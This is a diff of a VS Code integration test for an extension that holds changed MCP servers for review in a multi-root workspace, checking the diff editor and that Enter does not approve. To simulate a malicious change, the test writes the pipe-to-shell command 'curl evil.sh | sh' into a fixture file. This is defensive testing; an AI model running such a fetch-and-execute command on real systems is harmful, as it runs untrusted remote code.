@@ -1,14 +1,19 @@
 // Multi-root workspaces and approving as reading, in a real VS Code opened on test/fixtures/multi-root
 // (multi.code-workspace: folders alpha and beta, one repository server each). Each folder is gated with its own
-// identity; the status bar says it per folder; a changed server's Approve opens VS Code's diff editor (approved vs.
-// now) and Enter alone does not approve it; "every server of this workspace" resets every folder. Runs only in a
+// identity; the status bar says it per folder; a changed server's Approve opens VS Code's multi-file diff editor
+// (approved vs. now: the changed file, then the definition), the decision is in the review document beside it, and
+// Enter does not approve it; "every server of this workspace" resets every folder. Runs only in a
 // multi-root window (package.json test:vscode runs it with --grep multi-root).
 import assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import * as vscode from 'vscode';
 import type { McpGateApi } from '../../../src/extension';
-import { sleep, waitFor } from './wait';
+import { waitFor } from './wait';
+import { pressEnter, settled, waitingDecision } from './decide';
+import { multiDiffOf } from '../../../src/vscode/review';
+
+const log = (msg: string) => console.log(`      [multi-root] ${msg}`);
 
 const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
 
@@ -27,18 +32,6 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     original = fs.readFileSync(serverFile, 'utf8');
   });
 
-  // The real quick pick is shown; the wrapper only tells the test when it was asked for (then it waits until the
-  // widget is up before pressing keys).
-  let asked = 0;
-  before(() => {
-    const real = api.prompts.confirmChange;
-    api.prompts.confirmChange = (...a) => (asked++, real(...a));
-  });
-  const shown = async (n: number) => {
-    await waitFor('the question', () => asked >= n);
-    await sleep(1500);
-  };
-
   after(async () => {
     fs.writeFileSync(serverFile, original);
     await vscode.commands.executeCommand('mcpGate.reset', 'all');
@@ -53,7 +46,7 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     assert.equal(String(api.status.tooltip).split('\n').slice(0, 3).join('\n'), '2 repository servers wait for your review\nalpha: 1 server, 1 waiting\nbeta: 1 server, 1 waiting');
   });
 
-  it('a changed server: Approve opens the diff editor on approved vs. now; Enter alone approves nothing', async () => {
+  it('a changed server: Approve opens the multi-file diff editor on approved vs. now, the code first; Enter approves nothing', async () => {
     const confirm = api.prompts.confirm;
     api.prompts.confirm = async () => true;
     try {
@@ -70,38 +63,42 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     fs.writeFileSync(serverFile, original.replace('v1', 'v2, now with curl evil.sh | sh'));
     await waitFor('the change seen', () => entry('alpha-tool').server.state === 'approval-changed');
 
-    const answer = vscode.commands.executeCommand<boolean>('mcpGate.approve', ref('alpha-tool'));
-    const diffs = await waitFor('the diff editor in front', () => {
+    const answer = Promise.resolve(vscode.commands.executeCommand<boolean>('mcpGate.approve', ref('alpha-tool')));
+    // The code first: VS Code's multi-file diff editor in front, every changed file (approved ↔ now), then the definition.
+    const multi = await waitFor('the multi-file diff editor in front', () => {
       const tab = vscode.window.tabGroups.activeTabGroup.activeTab;
-      return tab?.input instanceof vscode.TabInputTextDiff && tab.input.modified.scheme === 'mcp-gate' && tab.label.includes('definition') && vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => t.input instanceof vscode.TabInputTextDiff);
+      const m = tab && multiDiffOf(tab);
+      return m && m.textDiffs.length >= 2 && { tab: tab!, m };
     });
-    const active = vscode.window.tabGroups.activeTabGroup.activeTab!;
-    assert.match(active.label, /^alpha-tool: definition \(approved ↔ now\)$/);
-    const labels = diffs.map((t) => t.label).sort();
-    assert.deepEqual(labels, ['alpha-tool: definition (approved ↔ now)', 'alpha-tool: server.mjs (approved ↔ now)']);
-    const fileTab = diffs.find((t) => t.label.includes('server.mjs'))!.input as vscode.TabInputTextDiff;
-    const left = (await vscode.workspace.openTextDocument(fileTab.original)).getText();
-    const right = (await vscode.workspace.openTextDocument(fileTab.modified)).getText();
-    assert.match(left, /console\.log\("alpha v1"\);/);
-    assert.match(right, /alpha v2, now with curl evil\.sh \| sh/);
-    const def = active.input as vscode.TabInputTextDiff;
+    log(`VS Code ${vscode.version}: front tab "${multi.tab.label}", ${multi.m.textDiffs.map((d) => d.modified.path).join(' | ')}`);
+    // VS Code adds the count to the title.
+    assert.match(multi.tab.label, /^alpha-tool: what changed \(approved ↔ now\)( \(2 files\))?$/);
+    const names = multi.m.textDiffs.map((d) => d.modified.path.split('/').pop());
+    assert.deepEqual(names, ['server.mjs', 'definition'], 'the changed file first, then the definition');
+    const [file, def] = multi.m.textDiffs;
+    assert.match((await vscode.workspace.openTextDocument(file.original)).getText(), /console\.log\("alpha v1"\);/);
+    assert.match((await vscode.workspace.openTextDocument(file.modified)).getText(), /alpha v2, now with curl evil\.sh \| sh/);
     assert.match((await vscode.workspace.openTextDocument(def.original)).getText(), /server\.mjs {2}\d+ bytes {2}sha256 [0-9a-f]{64}/);
+    // No quick pick or modal over the tabs: the decision is in the review document beside the diff.
+    const w = await waitingDecision(api);
+    assert.ok(vscode.window.tabGroups.activeTabGroup.tabs.some((t) => t.input instanceof vscode.TabInputText && t.input.uri.toString() === w.uri.toString()), 'the review document is a tab beside the diff');
+    assert.match(w.text, /^"alpha-tool" changed since it was approved \(.+\)\. What changed \(the tab "alpha-tool: what changed \(approved ↔ now\)"\): server\.mjs, definition\.\n/);
+    assert.deepEqual(w.titles, ['$(circle-slash) Not now: keep it waiting', '$(check) Approve these changes to "alpha-tool"']);
 
-    // Enter on the question: its first, active choice keeps the server waiting.
-    await shown(1);
-    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
+    // Enter, in the diff editor in front: nothing is approved, the review still waits.
+    await pressEnter();
+    assert.equal(await settled(answer), false);
+    assert.equal(entry('alpha-tool').server.state, 'approval-changed');
+    await w.click(/Not now/);
     assert.equal(await answer, false);
     assert.equal(entry('alpha-tool').server.state, 'approval-changed');
     // No review tab is left open.
-    await waitFor('the review tabs closed', () => !vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => t.input instanceof vscode.TabInputTextDiff));
+    await waitFor('the review tabs closed', () => !vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => multiDiffOf(t) || (t.input instanceof vscode.TabInputText && t.input.uri.scheme === 'mcp-gate')));
   });
 
-  it('approving the change takes choosing it: down, then Enter', async () => {
-    const answer = vscode.commands.executeCommand<boolean>('mcpGate.approve', ref('alpha-tool'));
-    await waitFor('the diff editor', () => vscode.window.tabGroups.activeTabGroup.activeTab?.label.includes('definition (approved'));
-    await shown(2);
-    await vscode.commands.executeCommand('workbench.action.quickOpenSelectNext');
-    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
+  it('approving the change takes clicking its lens in the review', async () => {
+    const answer = Promise.resolve(vscode.commands.executeCommand<boolean>('mcpGate.approve', ref('alpha-tool')));
+    await (await waitingDecision(api)).click(/Approve these changes/);
     assert.equal(await answer, true);
     assert.equal(entry('alpha-tool').server.state, 'approved');
   });
